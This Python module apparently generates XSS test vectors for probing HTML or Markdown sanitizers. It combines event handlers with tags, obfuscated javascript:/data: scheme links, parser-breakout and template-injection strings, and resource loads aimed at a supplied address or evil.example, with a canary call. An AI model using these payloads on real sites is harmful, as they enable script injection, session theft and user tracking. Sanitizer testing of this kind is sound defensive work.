"""Hundreds of texts that would run, load or send something in a page that takes them for more than text."""

from collections.abc import Iterator
from itertools import product

CALL = "top.owned=1"
HANDLERS = (
    *("onload", "onerror", "onclick", "onmouseover", "onfocus", "onblur", "ontoggle", "onbegin", "onanimationstart"),
    *("ontransitionend", "onpointerenter", "onwheel", "onscroll", "oninput", "onbeforematch", "onloadstart"),
)
CARRIERS = (
    "<img src=x {}>",
    "<svg {}>",
    "<svg><animate {} attributeName=x dur=1s>",
    "<body {}>",
    "<details open {}>x</details>",
    "<input autofocus {}>",
    "<video src=x {}></video>",
    "<audio src=x {}></audio>",
    "<iframe {}></iframe>",
    "<object data=x {}></object>",
    "<marquee {}>x</marquee>",
    "<p style='animation:x 1s' {}>x</p>",
    "<form {}><button>x</button></form>",
)
SCHEMES = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "java&#10;script:{}",
    "java&Tab;script&colon;{}",
    "&#106;&#97;vascript:{}",
    "&#x6A;avascript:{}",
    "\x01javascript:{}",
    "\u00a0javascript:{}",
    "//javascript:{}",
    "javascript://%0a{}",
    "javascript&#58;{}",
    "vbscript:{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD50b3Aub3duZWQ9MTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{}'/>",
    "view-source:javascript:{}",
    "blob:javascript:{}",
    "feed:javascript:{}",
    "jar:javascript:{}",
)
LINKS = (
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "[![x]({})]({})",
    "<{}>",
    "[x]: {}\n\n[x]",
    '<a href="{}">x</a>',
    '<a href="https://a.example" ping="{}">x</a>',
    '<form action="{}"><button>x</button></form>',
    '<iframe src="{}"></iframe>',
    '<math><maction actiontype="statusline" xlink:href="{}">x</maction></math>',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
)
BREAKOUTS = (
    "<script>{}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\x0c>{}</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "</p></li></main><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "</style></textarea></title><script>{}</script>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<template><img src=x onerror={}></template>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={}&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror={}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<select><noembed></select><img src=x onerror={}>",
    "<xmp><img src=x onerror={}></xmp>",
    "<!--><img src=x onerror={}>-->",
    "<?xml version='1.0'?><svg onload={}>",
    "<![CDATA[<img src=x onerror={}>]]>",
    "```html\n</code></pre><script>{}</script>\n```",
    '```"><img src=x onerror={}>\nx\n```',
    "`</code><img src=x onerror={}>`",
    "|a|\n|-|\n|</td><img src=x onerror={}>|",
    '|a|\n|:-" onload={}:|\n|b|',
    "# </h1><img src=x onerror={}>",
    "> </blockquote><img src=x onerror={}>",
    '[x](https://a.example "" onmouseover={} ")',
    "[x](https://a.example/'onmouseover='{})",
    '![" onerror="{}](x)',
    '![x](x "\\" onerror={}")',
    "*<img src=x onerror={}>*",
    "~~<img src=x onerror={}>~~",
    "&lt;img src=x onerror={}&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\\<img src=x onerror={}>",
    "\x00<img src=x onerror={}>",
    "<img\x00src=x onerror={}>",
    "\ufeff<img src=x onerror={}>",
    "\u202e<img src=x onerror={}>",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "<base href=https://evil.example/><script src=/static/x.js></script>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=preload as=script href=https://evil.example/x.js>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<button popovertarget=x onclick={}>x</button><div popover id=x onbeforetoggle={}>x</div>",
    "<input type=hidden oncontentvisibilityautostatechange={} style=content-visibility:auto>",
    "<embed src='data:text/html,<script>{}</script>'>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<portal src=https://evil.example/></portal>",
    "<a href=# id=location name=cookie>x</a><img name=currentScript><form id=messages><input name=append></form>",
)


def vectors(to: str) -> Iterator[str]:
    """Yield them all; those that load something load it from the address `to`."""
    for carrier, handler in product(CARRIERS, HANDLERS):
        yield carrier.format(f"{handler}={CALL}")
    for link, scheme in product(LINKS, SCHEMES):
        yield link.replace("{}", scheme.replace("{}", CALL))
    for breakout in BREAKOUTS:
        yield breakout.format(*[CALL] * breakout.count("{}")).replace("https://evil.example", to)
    for tag in ("img", "script", "iframe", "embed", "video", "audio", "source", "track", "input type=image", "image"):
        yield f'<{tag} src="{to}/{tag.split()[0]}">'
        yield f"![x]({to}/{tag.split()[0]}-in-markdown)"
    yield f"<div style=\"background:url('{to}/style')\">x</div>"
    yield f"<svg><image href='{to}/svg' /><use href='{to}/use#x' /></svg>"
    yield f"<link rel=dns-prefetch href={to}><link rel=prefetch href={to}/prefetch>"
